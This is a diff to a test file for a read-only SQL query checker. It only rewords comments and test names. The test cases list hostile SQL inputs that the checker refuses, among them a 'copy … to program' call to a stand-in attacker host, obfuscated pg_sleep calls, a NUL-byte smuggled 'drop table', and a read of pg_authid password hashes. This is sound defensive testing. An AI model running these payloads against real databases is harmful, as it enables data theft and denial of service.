@@ -22,10 +22,10 @@ test.each([
   'select case when count(*) filter (where total_price > 1e3) > 0 then true end from magic_orders',
   'select percentile_cont(0.5) within group (order by total_price) from magic_orders',
   'select * from generate_series(1, 3) with ordinality',
-  // Nothing but a text: a backslash escapes nothing in it.
+  // Just a text: a backslash escapes nothing in it.
   "select '\\'' || pg_sleep(60) --'",
   'select current_date, current_timestamp, vendor_name ilike any (array[$$a%$$]) from vendors',
-])('passes: %s', (query) => expect(refusal(query)).toBeNull());
+])('accepts: %s', (query) => expect(refusal(query)).toBeNull());
 
 const reading = /^Only read-only queries are allowed/;
 const one = /^Run one statement at a time/;
@@ -41,7 +41,7 @@ test.each([
   ['-- only a comment', /Please enter a SQL query/],
   // A NUL would end the text for PostgreSQL.
   ['select 1 \0; drop table vendors', /character that cannot be read/],
-  // Writing, in whatever place.
+  // Writing, in any position.
   ['insert into vendors default values', reading],
   ['update vendors set email = null', reading],
   ['delete from vendors', reading],
@@ -58,7 +58,7 @@ test.each([
   ['explain execute x', reading],
   ['select * from vendors for update', /Rows cannot be locked/],
   ['with v as (select * from vendors for key share) select * from v', /Rows cannot be locked/],
-  // Everything that is no query.
+  // Everything that is not a query.
   ['do $$ begin perform pg_sleep(60); end $$', reading],
   ["copy vendors to program 'curl evil.example'", reading],
   ["copy (select 1) to '/tmp/x'", reading],
@@ -122,7 +122,7 @@ test.each([
   ['select 1 operator(public.%) 2', notHere],
   ['select 1 operator(public.=) any (select 1)', notHere],
   ['select 1 from vendors order by id using operator(public.<)', notHere],
-  // The same, written to be overlooked.
+  // The same, obfuscated.
   ['select U&"pg\\005fsleep"(60)', notHere],
   ['select "pg_sleep"(60)', notHere],
   ['select/**/pg_sleep/**/(60)', notHere],
@@ -130,7 +130,7 @@ test.each([
   ['select pg_catalog . pg_sleep ( 60 )', notHere],
   ['select ｐｇ_sleep(60)', notHere],
   ["select E'\\'' || pg_sleep(60)::text || ''", notHere],
-  // Tables that are not for reports.
+  // Tables not meant for reports.
   ['select * from app.users', notHere],
   ['select * from users', notHere],
   ['select rolpassword from pg_authid', notHere],
@@ -152,12 +152,12 @@ test.each([
   ['plus', `select 1${'+1'.repeat(9000)}`],
   ['not', `select ${'not '.repeat(4900)} true`],
   ['case', `select ${'case when true then '.repeat(900)} 1 ${' end'.repeat(900)}`],
-])('refuses what is nested without end (%s), and goes on working', (_kind, query) => {
+])('refuses endless nesting (%s), and keeps working', (_kind, query) => {
   expect(refusal(query)).toMatch(/nested too deeply|stack depth/);
   expect(refusal('select 1')).toBeNull();
 });
 
-test('says where a mistake is', () => {
+test('reports the position of a mistake', () => {
   try {
     checkQuery('select *\n  form vendors', views);
     expect.unreachable();
@@ -178,4 +178,4 @@ test.each([
   ],
   ['explain values (1), (2)', 'values (1), (2)'],
   ['show timezone', null],
-])('answers what PostgreSQL is to plan of: %s', (query, selected) => expect(checkQuery(query, views)).toBe(selected));
+])('returns the text for PostgreSQL to plan: %s', (query, selected) => expect(checkQuery(query, views)).toBe(selected));
